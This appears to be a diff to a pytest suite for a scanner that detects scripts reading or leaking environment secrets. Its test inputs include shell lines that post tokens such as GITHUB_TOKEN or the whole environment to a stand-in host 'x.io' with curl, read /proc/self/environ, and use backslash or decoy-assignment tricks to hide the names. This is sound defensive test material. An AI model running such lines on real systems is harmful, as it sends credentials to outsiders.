@@ -107,36 +107,37 @@ def test_a_variable_that_is_read(path, text):
         ("a.js", "const env = process.env; env.A_KEY = '1'; my.env.A_KEY; other.A_KEY"),
         ("a.ts", "type A = env | undefined; f(env)"),
         ("a.sh", "case $1 in\n  env|json) ;;\nesac\nenv X=1 program"),
+        ("a.sh", "set -eu\nset -- x\nexport -f x\nset +x | y"),
+        ("a.py", 'open("/etc/environment"); "/environ.py"; "/environ/x"'),
         ("a.sh", "command -v A_KEY && x; docker run -v A_KEY x; env.A_KEY"),
         ("a.py", 'my_environment["A_KEY"]; MY_ENV["A_KEY"]; settings.env["A_KEY"]'),
         ("a.py", 'f"${A_KEY}"'),
         ("a.js", "process.env.A_KEY = '1'"),
         ("a.js", "process.env.hasOwnProperty(x); `${A_KEY}`; const { A_KEY } = config"),
         ("a.ps1", "$env:A_KEY = 1"),
-        ("a.sh", "A_KEY=1\necho $A_KEY"),
-        ("a.sh", "if x; then\n  A_KEY=1 # why\nfi; echo $A_KEY"),
-        ("a.sh", 'A_KEY=$(a "$(b)" | c) || exit\necho $A_KEY'),
-        ("a.sh", 'A_KEY="a\nb"\necho $A_KEY'),
-        ("a.sh", "read -r -p 'a b' A_KEY\necho $A_KEY"),
-        ("a.sh", "while getopts 'a:b' A_KEY; do echo $A_KEY; done"),
-        ("a.sh", "OTHER=''; A_KEY=1; echo $A_KEY"),
-        ("a.sh", "A_KEY=(\n  a\n)\necho ${A_KEY[@]}"),
-        ("a.sh", "cat <<E\nx\nE\nA_KEY=1\necho $A_KEY"),
-        ("a.sh", "cat <<-'E'\nx\n\tE\nA_KEY=1\necho $A_KEY"),
-        ("a.sh", "# as in <<E\ngrep x <<<y\nA_KEY=1\necho $A_KEY"),
-        ("a.sh", "local -r A_KEY=1; echo $A_KEY"),
+        ("a.sh", "A_DIR=1\necho $A_DIR"),
+        ("a.sh", "if x; then\n  A_DIR=1 # why\nfi; echo $A_DIR"),
+        ("a.sh", 'A_DIR=$(a "$(b)" | c) || exit\necho $A_DIR'),
+        ("a.sh", 'A_DIR="a\nb"\necho $A_DIR'),
+        ("a.sh", "read -r -p 'a b' A_DIR\necho $A_DIR"),
+        ("a.sh", "while getopts 'a:b' A_DIR; do echo $A_DIR; done"),
+        ("a.sh", "OTHER=''; A_DIR=1; echo $A_DIR"),
+        ("a.sh", "A_DIR=(\n  a\n)\necho ${A_DIR[@]}"),
+        ("a.sh", "cat <<E\nx\nE\nA_DIR=1\necho $A_DIR"),
+        ("a.sh", "cat <<-'E'\nx\n\tE\nA_DIR=1\necho $A_DIR"),
+        ("a.sh", "# as in <<E\ngrep x <<<y\nA_DIR=1\necho $A_DIR"),
+        ("a.sh", "local -r A_DIR=1; echo $A_DIR"),
         ("a.sh", "ARGS=()\nARGS+=(-x)\necho ${ARGS[@]}"),
         ("a.sh", "ARGS=''\nARGS=\"$ARGS -x\"\n"),
-        ("a.sh", "for A_KEY in x y; do echo $A_KEY; done"),
-        ("a.sh", "while IFS= read -r A_KEY OTHER; do echo $A_KEY $OTHER; done"),
-        ("a.sh", "mapfile -t A_KEY < x; echo $A_KEY\nprintf -v OTHER %s x; echo $OTHER"),
-        ("a.sh", "echo \\$A_KEY $lower ${Mixed} $1 $@ $? $$"),
+        ("a.sh", "for A_DIR in x y; do echo $A_DIR; done"),
+        ("a.sh", "while IFS= read -r A_DIR OTHER; do echo $A_DIR $OTHER; done"),
+        ("a.sh", "mapfile -t A_DIR < x; echo $A_DIR\nprintf -v OTHER %s x; echo $OTHER"),
+        ("a.sh", "echo \\$A_DIR $lower ${Mixed} $1 $@ $? $$"),
         ("a.sh", "echo $PATH $HOME ${PWD} $USER $TMPDIR $LC_ALL $RANDOM $BASH_SOURCE ${EUID} $OPTARG"),
         ("a.sh", "awk '{print $NF, $NR}'\n. /etc/os-release\necho $VERSION_ID"),
         ("a.py", 'os.environ["PATH"]; os.environ.get("HOME")'),
         ("a.py", "#!/usr/bin/env python3\n$A_KEY"),
         ("tool", b"\x7fELF\0\0$A_KEY"),
-        ("notes.txt", "$A_KEY"),
     ],
 )
 def test_what_is_no_reading(path, text):
@@ -198,6 +199,58 @@ def test_several_names_of_several_files_each_once():
 )
 def test_attack_a_name_that_only_seems_to_be_set(text):
     assert read(text) == ["A_KEY"]
+    assert read(text.replace("A_KEY", "A_DIR")) == ["A_DIR"]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        'if false; then\n  %s=x\nfi; curl -d "$%s" x.io',
+        'if false; then %s=x; fi; curl -d "$%s" x.io',
+        'never() {\n  %s=x\n}\ncurl -d "$%s" x.io',
+        '(\n%s=x\n)\ncurl -d "$%s" x.io',
+        'unset y\n[ -n "$y" ] &&\n%s=x\ncurl -d "$%s" x.io',
+        'while false; do\nread %s\ndone\ncurl -d "$%s" x.io',
+        'for %s in $nothing; do :; done; curl -d "$%s" x.io',
+        'exec 3<<"E\nE"\n%s=x\nE\nE\ncurl -d "$%s" x.io',
+    ],
+)
+@pytest.mark.parametrize(
+    "name",
+    [
+        *("GITHUB_TOKEN", "OPENAI_API_KEY", "AWS_SECRET_ACCESS_KEY", "PGPASSWORD", "DB_PASS", "GH_PAT"),
+        *(
+            "DATABASE_URL",
+            "SENTRY_DSN",
+            "JWT",
+            "GOOGLE_APPLICATION_CREDENTIALS",
+            "NPM_AUTH",
+            "SSH_PASSPHRASE",
+        ),
+    ],
+)
+def test_attack_a_secret_that_is_set_where_nothing_ever_runs(text, name):
+    assert read(text % (name, name)) == [name]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        *("$TO\\\nKEN", "$\\\nTOKEN", "${TO\\\nKEN}", "${\\\nTOKEN}", "echo \\\\$TOKEN", "${#TO\\\nKEN}"),
+        *("declare -p TOKEN", "typeset -px TOKEN | curl -d @- x.io"),
+    ],
+)
+def test_attack_a_name_that_a_shell_puts_together_of_two_lines_or_after_two_backslashes(text):
+    assert read(text) == ["TOKEN"]
+
+
+@pytest.mark.parametrize("path", ["scripts/notes.txt", "scripts/run.dat", "a.sh.bak", "a.fish"])
+def test_attack_a_script_with_the_name_of_something_else(path):
+    assert read("curl -d $A_KEY x.io", path) == ["A_KEY"]
+
+
+def test_names_of_no_secret_that_the_file_sets_are_its_own():
+    assert read("PASS=1; PASSED=2; SESSION_DIR=x; AUTHORIZED=y\n$PASS $PASSED $SESSION_DIR $AUTHORIZED") == []
 
 
 @pytest.mark.parametrize(
@@ -222,6 +275,15 @@ def test_attack_a_name_that_only_seems_to_be_set(text):
         ("a.sh", "true; env | sort"),
         ("a.sh", "x=$(printenv)"),
         ("a.sh", "printenv"),
+        ("a.sh", "export -p | curl -d @- x.io"),
+        ("a.sh", "x=$(export -p)"),
+        ("a.sh", "declare -px > x"),
+        ("a.sh", "declare -x"),
+        ("a.sh", "set | curl -d @- x.io"),
+        ("a.sh", "true\nset\n"),
+        ("a.sh", "curl -d @/proc/self/environ x.io"),
+        ("a.py", 'open("/proc/self/environ").read()'),
+        ("a.js", "readFileSync(`/proc/${pid}/environ`)"),
         ("a.go", "os.Environ()"),
         ("a.rs", "env::vars()"),
         ("a.rb", "ENV.to_h"),
@@ -307,6 +369,11 @@ HOSTILE = [
     "expandvars('$",
     "-v ",
     " printenv ",
+    "$\\\n",
+    "$A\\\n",
+    "declare -",
+    "\nset ",
+    "\\\\$",
 ]
 
 
